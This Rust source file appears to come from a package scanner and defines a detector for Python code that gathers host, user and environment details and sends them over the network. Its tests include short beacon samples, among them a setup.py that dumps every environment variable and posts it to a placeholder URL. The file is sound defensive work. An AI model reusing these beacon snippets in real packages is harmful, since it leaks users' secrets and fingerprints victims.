//! `hunting.system-info`: host fingerprinting (host name, user name, MAC via
//! `uuid.getnode`, `platform.uname`, whole-environment dumps, public-IP lookups)
//! in a file that also sends data over the network — the collection half of
//! every stealer's "beacon home".
//!
//! Python code only; needs at least one collector *and* a network sink in code.
//! Tests/docs skipped; install time Critical.

use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
use super::sinks;
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub static META: DetectorMeta = DetectorMeta {
    id: "hunting.system-info",
    title: "Collects system information and sends it over the network.",
    category: Category::Hunting,
    severity: Severity::Medium,
    description: "Host, user and environment details sent to a server are how malicious packages fingerprint and pick their victims.",
};

static COLLECT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(?:platform\.node|platform\.uname|os\.uname|getpass\.getuser|os\.getlogin|socket\.gethostname|socket\.getfqdn|uuid\.getnode|os\.environ\.copy|os\.environ\.items)\s*\(|(?-u:\b)(?:dict|str|repr)\s*\(\s*os\.environ\s*\)|json\.dumps\s*\(\s*(?:dict\s*\(\s*)?os\.environ(?-u:\b)|(?:api\.ipify\.org|ipinfo\.io|ifconfig\.me|icanhazip\.com|checkip\.amazonaws\.com|ip-api\.com|wtfismyip\.com)"#).expect("collect")
});

/// How far (in lines) collection and sending may be apart.
const WINDOW_LINES: usize = 25;

pub struct SystemInfo;

impl Detector for SystemInfo {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn literals(&self) -> &'static [&'static str] {
        &[
            "platform.node",
            "uname",
            "getuser",
            "getlogin",
            "gethostname",
            "getfqdn",
            "getnode",
            "os.environ",
            "ipify",
            "ipinfo",
            "ifconfig.me",
            "icanhazip",
            "checkip",
            "ip-api",
            "wtfismyip",
        ]
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python || file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path) {
            return;
        }
        let src = Source::new(file);
        // Sends only: a bare connect (SMTP EHLO, database drivers) is not a beacon.
        let lines = pysrc::Lines::new(file.text);
        let line_of = |o: usize| lines.line(o);
        let net: Vec<_> = sinks::network(&src)
            .into_iter()
            .filter(|s| !s.name.ends_with("connect") && s.name != "socket.create_connection")
            .map(|s| (line_of(s.offset), s.name))
            .collect();
        if net.is_empty() {
            return;
        }
        let sev = Some(if file.role == FileRole::InstallTime { Severity::Critical } else { Severity::Medium });
        let mut n = 0;
        for m in COLLECT.find_iter(file.text) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if !src.is_live(m.start()) {
                continue;
            }
            let l = line_of(m.start());
            let Some(&(_, sink)) =
                net.iter().min_by_key(|(sl, _)| sl.abs_diff(l)).filter(|(sl, _)| sl.abs_diff(l) <= WINDOW_LINES)
            else {
                continue;
            };
            n += 1;
            let raw = m.as_str();
            let ind = if raw.contains("environ") && !raw.contains("environ.") {
                "os.environ dump".to_string()
            } else {
                raw.trim_end_matches('(').trim_end().to_string()
            };
            let ind = format!("{ind} + {sink}");
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use std::sync::LazyLock;
    use FileRole::*;
    use Severity::*;

    const BEACON: &str = "import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post(U, json=info)\n";

    static FAR: LazyLock<String> =
        LazyLock::new(|| format!("h = socket.gethostname()\n{}requests.post(U)\n", "x = 1\n".repeat(40)));

    #[test]
    fn cases() {
        table(
            &SystemInfo,
            META.id,
            &[
                ("beacon", "pkg/a.py", Runtime, BEACON, Some((2, "socket.gethostname + requests.post", Medium))),
                (
                    "setup.py env dump",
                    "setup.py",
                    InstallTime,
                    "data = json.dumps(dict(os.environ))\nurllib.request.urlopen(urllib.request.Request(U, data))\n",
                    Some((1, "os.environ dump + urllib.request.urlopen", Critical)),
                ),
                (
                    "hostname without network",
                    "pkg/log.py",
                    Runtime,
                    "HOST = socket.gethostname()\nlog.info(HOST)\n",
                    None,
                ),
                ("env lookup of one key", "pkg/a.py", Runtime, "t = os.environ.get('TOKEN')\nrequests.post(U)\n", None),
                ("tests", "pkg/tests/test_a.py", Runtime, BEACON, None),
                (
                    "smtp-like: hostname and a connect only",
                    "pkg/mail.py",
                    Runtime,
                    "name = socket.getfqdn()\nself.sock = socket.create_connection((h, p))\n",
                    None,
                ),
                ("collection far from the send", "pkg/far.py", Runtime, FAR.as_str(), None),
            ],
        );
    }
}
